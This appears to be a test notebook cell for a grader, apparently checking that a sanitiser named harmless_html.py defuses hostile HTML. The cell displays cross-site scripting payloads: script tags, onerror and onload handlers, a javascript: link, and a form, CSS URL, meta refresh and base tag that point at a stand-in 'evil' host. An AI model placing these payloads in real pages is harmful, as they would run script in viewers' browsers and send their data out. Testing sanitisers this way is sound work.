# tries: shows HTML with a script, for the browser of whoever marks it
# points: 0 6 0
# says: Not attempted: fetch_all, 0 of 4 points
# answered by: grader/harmless_html.py

# %% own above fetch_all
from IPython.display import HTML, display

display(HTML("<b>bold</b><script>steal()</script><img src=x onerror=steal()><iframe srcdoc='<script>steal()</script>'>"))
display(HTML("<a href='javascript:steal()'>x</a><form action='//evil'><input name=p></form><svg onload=steal()>"))
display(HTML("<style>*{background:url(//evil)}</style><meta http-equiv=refresh content='0;url=//evil'><base href=//evil>"))
